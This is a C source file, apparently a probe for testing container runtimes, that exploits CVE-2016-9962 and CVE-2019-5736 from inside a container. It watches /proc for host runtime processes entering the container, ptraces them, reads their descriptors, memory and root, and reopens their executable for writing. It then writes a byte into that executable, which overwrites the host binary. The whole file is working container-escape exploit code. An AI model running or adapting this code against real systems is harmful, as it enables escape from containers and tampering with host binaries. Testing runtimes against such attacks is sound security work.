/* steal OWN: until SIGTERM, go at every process that is not yet one of this container (CVE-2016-9962, CVE-2019-5736).
 *
 * A process that enters runs the runtime's code for some milliseconds; by its executable or, where that cannot be read,
 * by its name it is told from the container's own, whose executable is OWN. In these milliseconds: attach to it
 * (PTRACE_SEIZE), read its descriptors, its root and its memory, open its executable for writing, at once and again
 * when it has gone. Prints one line for each kind of thing that was got, and at the end how many chances it had:
 *
 *     got KIND DETAIL          foreign N refused M */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t ended;
static unsigned long foreign, refused;
static const char *own;
static char path[64];

static void end(int number) { (void)number; ended = 1; }

static const char *of(int pid, const char *name) { snprintf(path, sizeof path, "/proc/%d/%s", pid, name); return path; }

static int has(int pid, const char *name, const char *word)
{
    char text[256] = "";
    int fd = open(of(pid, name), O_RDONLY);
    if (fd >= 0) {
        if (read(fd, text, sizeof text - 1) < 0)
            text[0] = 0;
        close(fd);
    }
    return strncmp(text, word, strlen(word)) == 0;
}

/* The container's own are busybox and this program; of one that cannot be looked at, only the name is to be had. */
static int is_foreign(int pid)
{
    char exe[256] = "";
    if (readlink(of(pid, "exe"), exe, sizeof exe - 1) > 0)
        return strcmp(exe, "/bin/busybox") != 0 && strcmp(exe, "/bin/steal") != 0;
    return access(of(pid, "comm"), F_OK) == 0 && !has(pid, "comm", own) && !has(pid, "comm", "steal");
}

static void got(int pid, const char *kind, const char *detail)
{
    if (!is_foreign(pid))
        return; /* it has become the container's program meanwhile, which may be looked at */
    printf("got %s %s\n", kind, detail);
    fflush(stdout);
}

static void descriptors(int pid)
{
    DIR *all = opendir(of(pid, "fd"));
    struct dirent *one;
    char link[256], name[32];
    if (all == NULL) {
        refused++;
        return;
    }
    while ((one = readdir(all)) != NULL) {
        snprintf(name, sizeof name, "fd/%.16s", one->d_name);
        ssize_t length = readlink(of(pid, name), link, sizeof link - 1);
        if (length > 0) {
            link[length] = 0;
            got(pid, "descriptor", link);
        }
    }
    closedir(all);
}

static int is_own(int fd)
{
    struct stat it, busybox, thief;
    return fstat(fd, &it) == 0 && stat("/bin/busybox", &busybox) == 0 && stat("/bin/steal", &thief) == 0
        && it.st_dev == busybox.st_dev && (it.st_ino == busybox.st_ino || it.st_ino == thief.st_ino);
}

static void executable(int pid)
{
    char again[32];
    int kept = open(of(pid, "exe"), O_RDONLY | O_CLOEXEC), fd = -1;
    if (kept < 0) {
        refused++;
        return;
    }
    if (is_own(kept)) { /* it has become the container's program meanwhile */
        close(kept);
        return;
    }
    errno = ETXTBSY;
    got(pid, "executable-to-read", "");
    snprintf(again, sizeof again, "/proc/self/fd/%d", kept);
    for (int tries = 0; fd < 0 && errno == ETXTBSY && tries < 50; tries++) {
        usleep(1000);
        fd = open(again, O_RDWR | O_CLOEXEC);
    }
    if (fd >= 0 && pwrite(fd, "\177", 1, 0) == 1)
        printf("got executable-to-write %d\n", pid), fflush(stdout);
    close(fd), close(kept);
}

static void attack(int pid)
{
    foreign++;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        got(pid, "ptrace", "");
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    } else
        refused++;
    descriptors(pid);
    executable(pid);
    int memory = open(of(pid, "mem"), O_RDWR | O_CLOEXEC);
    if (memory >= 0)
        got(pid, "memory", ""), close(memory);
    if (access(of(pid, "root/."), F_OK) == 0)
        got(pid, "root", "");
}

int main(int argc, char **argv)
{
    struct dirent *one;
    if (argc != 2)
        return 2;
    own = argv[1];
    signal(SIGTERM, end);
    puts("ready"), fflush(stdout);
    while (!ended) {
        DIR *all = opendir("/proc");
        while (!ended && (one = readdir(all)) != NULL) {
            int pid = atoi(one->d_name);
            if (pid > 1 && pid != getpid() && is_foreign(pid))
                attack(pid);
        }
        closedir(all);
    }
    printf("foreign %lu refused %lu\n", foreign, refused);
    return 0;
}
